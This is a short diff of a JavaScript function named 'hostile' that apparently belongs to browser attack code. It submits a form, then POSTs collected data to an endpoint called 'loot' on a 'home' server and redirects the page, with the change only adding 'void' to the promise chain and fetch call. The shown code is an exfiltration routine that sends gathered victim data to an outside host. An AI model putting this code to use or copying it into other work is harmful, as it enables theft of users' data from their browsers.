@@ -76,8 +76,8 @@ function hostile() {
   });
   document.body.append(form);
   form.submit();
-  Promise.all(asked).then(() => {
-    fetch(`${home}/loot`, { method: 'POST', body: found.join('\n') });
+  void Promise.all(asked).then(() => {
+    void fetch(`${home}/loot`, { method: 'POST', body: found.join('\n') });
     setTimeout(() => location.assign(`${home}/moved`), 50);
   });
 }
